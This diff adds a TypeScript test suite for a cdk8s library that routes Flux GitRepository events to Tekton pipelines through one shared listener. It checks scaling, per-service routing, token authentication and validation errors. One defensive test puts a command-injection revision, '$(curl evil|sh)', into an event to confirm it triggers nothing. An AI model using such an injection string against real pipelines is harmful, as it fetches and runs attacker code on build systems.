@@ -1,0 +1,168 @@
+import { App, Chart, Testing } from 'cdk8s';
+import { SERVICES, build as fleetCi } from '../examples/fleet-ci/app';
+import {
+  FluxEvent, FluxListener, FluxTriggeredPipeline, GitOpsApp, GitRepository, ListenerAuthentication, ListenerClusterAccess, Pipeline,
+  RunConcurrency, Task, simulateEvent,
+} from '../src';
+import { checkConformance, securityProblems } from './support/conformance';
+import { CrdSchemas } from './support/crd-schemas';
+import { crdsDir, fluxEvent, tempDir, validationErrors } from './util';
+
+/** An app of `n` services (a GitRepository, a Task and a Pipeline each, the user's own), all on one listener. */
+function fleet(n: number, options: { namespaces?: string[]; clusterAccess?: ListenerClusterAccess } = {}) {
+  const app = Testing.app();
+  const ci = new Chart(app, 'ci', { namespace: 'ci' });
+  const listener = new FluxListener(ci, 'listener', { clusterAccess: options.clusterAccess });
+  const namespaces = options.namespaces ?? ['flux-system'];
+  for (let i = 0; i < n; i++) {
+    const ns = namespaces[i % namespaces.length];
+    const flux = (app.node.tryFindChild(ns) as Chart | undefined) ?? new Chart(app, ns, { namespace: ns });
+    const repo = new GitRepository(flux, `svc-${i}`, { url: `https://github.com/acme/svc-${i}.git`, branch: 'main' });
+    const task = new Task(ci, `t-${i}`);
+    const commit = task.addParam('commit');
+    task.addStep({ name: 's', image: 'alpine:3.20', script: `#!/bin/sh\necho ${commit}` });
+    const pipeline = new Pipeline(ci, `svc-${i}-ci`);
+    pipeline.addTask('t', { task });
+    new FluxTriggeredPipeline(ci, `on-svc-${i}`, { source: repo, pipeline, listener });
+  }
+  expect(validationErrors(app)).toEqual([]);
+  return app.charts.flatMap((c) => c.toJson());
+}
+
+const kinds = (objects: any[]) => objects.reduce((m, o) => ({ ...m, [o.kind]: (m[o.kind] ?? 0) + 1 }), {} as { [kind: string]: number });
+
+/** The Secrets the objects reference but do not contain: Providers' secretRef and CEL compareSecret. */
+function referencedSecrets(objects: any[]): string[] {
+  const out = new Set<string>();
+  for (const o of objects) {
+    if (o.kind === 'Provider' && o.spec.secretRef) out.add(`${o.metadata.namespace}/${o.spec.secretRef.name}`);
+    for (const m of JSON.stringify(o).matchAll(/compareSecret\('([^']+)', '([^']+)'(?:, '([^']+)')?\)/g)) {
+      out.add(`${m[3] ?? o.metadata.namespace}/${m[2]}`);
+    }
+  }
+  return [...out].sort();
+}
+
+describe('FluxListener: one listener for a fleet', () => {
+  const fifty = fleet(50);
+
+  test('50 services: one EventListener, one Provider, one Alert, one Secret to create', () => {
+    const k = kinds(fifty);
+    expect({ EventListener: k.EventListener, Provider: k.Provider, Alert: k.Alert, NetworkPolicy: k.NetworkPolicy, Role: k.Role, ClusterRole: k.ClusterRole })
+      .toEqual({ EventListener: 1, Provider: 1, Alert: 1, NetworkPolicy: 1, Role: 1, ClusterRole: 1 });
+    expect(referencedSecrets(fifty)).toEqual(['ci/flux-events-flux-token']);
+    const alert = fifty.find((o) => o.kind === 'Alert');
+    expect(alert.spec.eventSources).toHaveLength(50);
+  });
+
+  test('each extra service adds at most 5 objects besides its own GitRepository, Task and Pipeline', () => {
+    const added = fleet(51).length - fifty.length - 3;
+    expect(added).toBeLessThanOrEqual(5);
+    expect(kinds(fleet(51))).toEqual({
+      ...kinds(fifty),
+      ...Object.fromEntries(['GitRepository', 'Task', 'Pipeline', 'Trigger', 'TriggerBinding', 'TriggerTemplate', 'ServiceAccount']
+        .map((kind) => [kind, kinds(fifty)[kind] + 1])),
+    });
+  });
+
+  test('1,000 services: the EventListener stays a few hundred bytes (Triggers select Trigger objects by label)', () => {
+    const objects = fleet(1000);
+    const listener = objects.find((o) => o.kind === 'EventListener');
+    expect(listener.spec).toEqual({ serviceAccountName: 'flux-events-listener', triggers: [], labelSelector: { matchLabels: { 'cdk8s-tekton-flux/listener': 'flux-events' } } });
+    expect(Buffer.byteLength(JSON.stringify(listener))).toBeLessThan(1024);
+    expect(Math.max(...objects.map((o) => Buffer.byteLength(JSON.stringify(o))))).toBeLessThan(1.5 * 1024 * 1024 / 10);
+  });
+
+  test.each([0, 17, 49])('the event of source %i creates exactly its own pipeline\'s run, and nothing else', (i) => {
+    const event = fluxEvent('gitrepository-new-artifact.json');
+    event.involvedObject.name = `svc-${i}`;
+    const result = simulateEvent(fifty, event);
+    expect(result.broken).toEqual([]);
+    expect(result.runs.map((r) => r.object.metadata.name)).toEqual([`svc-${i}-ci-4b825dc642cb`]);
+  });
+
+  test('a hostile revision and a wrong token create nothing', () => {
+    const hostile = fluxEvent('gitrepository-new-artifact.json');
+    hostile.involvedObject.name = 'svc-3';
+    hostile.metadata.revision = 'main@sha1:$(curl evil|sh)';
+    expect(simulateEvent(fifty, hostile).runs).toEqual([]);
+    const event = fluxEvent('gitrepository-new-artifact.json');
+    event.involvedObject.name = 'svc-3';
+    const secrets = new Map([['ci/flux-events-flux-token', { headers: 'X-Flux-Token: right', token: 'wrong' }]]);
+    expect(simulateEvent(fifty, event, { secrets, assumeUnknownSecretsMatch: false }).runs).toEqual([]);
+    const right = new Map([['ci/flux-events-flux-token', { headers: 'X-Flux-Token: right', token: 'right' }]]);
+    expect(simulateEvent(fifty, event, { secrets: right, assumeUnknownSecretsMatch: false }).runs).toHaveLength(1);
+  });
+
+  test('sources in two Flux namespaces: still one Provider, one Alert (naming each source\'s namespace) and one Secret', () => {
+    const objects = fleet(4, { namespaces: ['flux-system', 'team-flux'] });
+    expect(objects.filter((o) => o.kind === 'Provider').map((o) => `${o.metadata.namespace}/${o.metadata.name}`)).toEqual(['ci/flux-events']);
+    const alert = objects.find((o) => o.kind === 'Alert');
+    expect(alert.metadata.namespace).toBe('ci');
+    expect(alert.spec.eventSources.map((e: any) => `${e.namespace}/${e.name}`)).toEqual(['flux-system/svc-0', 'team-flux/svc-1', 'flux-system/svc-2', 'team-flux/svc-3']);
+    expect(referencedSecrets(objects)).toEqual(['ci/flux-events-flux-token']);
+    const event = fluxEvent('gitrepository-new-artifact.json');
+    event.involvedObject.name = 'svc-1';
+    event.involvedObject.namespace = 'team-flux';
+    expect(simulateEvent(objects, event).runs.map((r) => r.object.metadata.name)).toEqual(['svc-1-ci-4b825dc642cb']);
+  });
+
+  test('ListenerClusterAccess.grantedByPlatform(): no cluster-scoped object', () => {
+    const objects = fleet(3, { clusterAccess: ListenerClusterAccess.grantedByPlatform() });
+    expect(objects.filter((o) => ['ClusterRole', 'ClusterRoleBinding', 'Namespace'].includes(o.kind))).toEqual([]);
+  });
+
+  test('cancel-in-progress on a shared listener cancels only the same trigger\'s runs', () => {
+    const app = Testing.app();
+    const ci = new Chart(app, 'ci', { namespace: 'ci' });
+    const listener = new FluxListener(ci, 'listener');
+    const task = new Task(ci, 't');
+    task.addStep({ name: 's', image: 'alpine:3.20', script: '#!/bin/sh\ntrue' });
+    for (const n of ['a', 'b']) {
+      const pipeline = new Pipeline(ci, `${n}-ci`);
+      pipeline.addTask('t', { task });
+      const repo = GitRepository.fromGitRepositoryName(ci, `repo-${n}`, `repo-${n}`, { namespace: 'flux-system' });
+      new FluxTriggeredPipeline(ci, `on-${n}`, { source: repo, pipeline, listener, concurrency: RunConcurrency.cancelInProgress() });
+    }
+    const objects = app.charts.flatMap((c) => c.toJson());
+    const taskRuns = objects.filter((o) => o.kind === 'TriggerTemplate').map((t) => t.spec.resourcetemplates[1]);
+    expect(taskRuns.map((r) => r.spec.params)).toHaveLength(2);
+    const cancellers = objects.filter((o) => o.kind === 'Task' && o.metadata.name.endsWith('-supersede'));
+    expect(cancellers.map((t) => t.spec.steps[0].env.find((e: any) => e.name === 'TRIGGER').value).sort()).toEqual(['on-a', 'on-b']);
+    expect(objects.filter((o) => o.kind === 'Trigger').map((t) => t.metadata.name).sort()).toEqual(['on-a', 'on-b']);
+  });
+
+  test('listener-level props on a pipeline that joins a listener, and another namespace, are errors with the fix', () => {
+    const app = Testing.app();
+    const ci = new Chart(app, 'ci', { namespace: 'ci' });
+    const listener = new FluxListener(ci, 'listener');
+    const task = new Task(ci, 't');
+    task.addStep({ name: 's', image: 'alpine:3.20', script: '#!/bin/sh\ntrue' });
+    const pipeline = new Pipeline(ci, 'p');
+    pipeline.addTask('t', { task });
+    const repo = GitRepository.fromGitRepositoryName(ci, 'repo', 'repo', { namespace: 'flux-system' });
+    new FluxTriggeredPipeline(ci, 'own', { source: repo, pipeline, listener, authentication: ListenerAuthentication.unauthenticated() });
+    new FluxTriggeredPipeline(ci, 'elsewhere', { source: repo, pipeline, listener, namespace: 'other', params: { commit: FluxEvent.commit() } });
+    const errors = validationErrors(app).join('\n');
+    expect(errors).toContain('[ci/own] authentication is the listener\'s, and this pipeline joins ci/listener: give them to that FluxListener');
+    expect(errors).toContain("[ci/elsewhere] namespace 'other' is not the namespace of the listener it joins ('ci')");
+  });
+});
+
+describe('example fleet-ci', () => {
+  const out = tempDir();
+  fleetCi(new GitOpsApp({ outdir: out })).synth();
+  const objects = fleetCi(new App()).charts.flatMap((c) => c.toJson());
+
+  test('conforms, is safe by default, and each service\'s event runs its own pipeline only', () => {
+    const report = checkConformance(objects, CrdSchemas.load(crdsDir()));
+    expect(report).toEqual({ schema: [], unknownKinds: [], models: [], coreTypes: [], names: [], lint: [] });
+    expect(securityProblems(objects)).toEqual([]);
+    for (const service of SERVICES) {
+      const event = fluxEvent('gitrepository-new-artifact.json');
+      event.involvedObject.name = service;
+      expect(simulateEvent(objects, event).runs.map((r) => r.object.metadata.name)).toEqual([`${service}-ci-4b825dc642cb`]);
+    }
+    expect(kinds(objects).EventListener).toBe(1);
+  });
+});
